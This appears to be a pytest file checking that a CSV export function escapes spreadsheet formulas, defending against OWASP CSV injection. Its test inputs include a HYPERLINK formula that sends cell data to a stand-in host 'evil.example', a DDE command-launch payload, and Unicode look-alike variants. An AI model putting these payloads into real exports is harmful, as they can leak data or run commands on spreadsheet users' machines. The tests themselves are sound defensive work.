"""CSV cells that a spreadsheet would run as formulas are written as text (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from chalicelib.csv_safety import BYTE_ORDER_MARK, csv_text, safe_cell

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1, "click")',
    "+SUM(A1:A2)",
    "-2+3",
    "@cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=cmd|' /C calc'!A0",
    "  =1+1",
    "\u00a0+1",
    "\uff1d1+1",  # full-width equals sign
    "\uff0bSUM(A1)",
    "\uff0d1",
    "\uff20cmd",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_become_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Ana García", "a=b", "e-mail", "100%", "", "'quoted", "1+1", "ñandú@home"])
def test_ordinary_text_is_written_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize(("value", "written"), [(-3, "-3"), (2.5, "2.5"), (0, "0"), (None, "")])
def test_numbers_the_portal_computes_stay_numbers(value: object, written: str) -> None:
    assert safe_cell(value) == written


def test_document_is_utf8_with_bom_and_every_cell_safe() -> None:
    text = csv_text(["name", "=header"], [["=evil()", "José"], ["+1", 7]])

    assert text.startswith(BYTE_ORDER_MARK)
    rows = list(csv.reader(io.StringIO(text.encode("utf-8").decode("utf-8-sig"))))
    assert rows == [["name", "'=header"], ["'=evil()", "José"], ["'+1", "7"]]
    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row)
